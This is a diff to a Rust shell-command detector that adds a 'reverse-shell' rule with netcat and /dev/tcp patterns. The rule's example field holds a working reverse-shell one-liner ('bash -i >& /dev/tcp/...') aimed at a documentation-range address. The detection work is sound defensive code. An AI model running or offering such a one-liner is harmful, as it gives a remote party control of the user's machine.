@@ -7,8 +7,9 @@ use crate::detect::{
     around,
     shell::{
         commands,
-        cues::{Cue, is_disguised, programs, programs_in},
-        invocation::Source,
+        cues::{Cue, is_disguised, programs, programs_in, text},
+        invocation::{Invocation, Source},
+        lexer::Word,
     },
 };
 
@@ -19,6 +20,8 @@ pub(super) const CUES: &[Cue] = &[
         &["fetch ", "gunzip", "zcat", "gzip ", "openssl "],
         &["|", ")", "`"],
     ),
+    text(&["/dev/tcp/", "/dev/udp/"], &[]),
+    programs(&["nc -", "ncat -", "netcat -"], &["sh"]),
 ];
 
 pub(super) const RULES: &[Rule] = &[
@@ -42,7 +45,44 @@ pub(super) const RULES: &[Rule] = &[
             "base64 -d payload.txt > payload.bin",
         ),
     },
+    Rule {
+        id: "reverse-shell",
+        flags: "a shell handed to another host",
+        programs: &[],
+        matches: is_handed_over,
+        example: example(
+            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+            "nc -zv db.corp.io 5432",
+        ),
+    },
 ];
+
+/// Whether it is a shell that reads from or writes to another host, or `nc` with a shell behind its options.
+fn is_handed_over(run: &Invocation<'_>) -> bool {
+    let is_shell = |name: &str| commands::SHELLS.contains(&commands::program(name));
+    let is_host = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
+    match run.name {
+        "nc" | "ncat" | "netcat" => {
+            let runs = run.args.windows(2).any(|pair| match pair {
+                [option, program] => {
+                    option.is_option()
+                        && option.text.ends_with(['e', 'c'])
+                        && is_shell(&program.text)
+                }
+                _ => false,
+            });
+            runs && run.args.first().is_some_and(Word::is_option)
+        }
+        name => {
+            is_shell(name)
+                && run
+                    .command
+                    .redirects
+                    .iter()
+                    .any(|redirect| is_host(&redirect.target.text))
+        }
+    }
+}
 
 /// Programs beside shells, interpreters and clients of databases that run what they read.
 const READERS: &[&str] = &["at", "autossh", "batch", "ssh"];
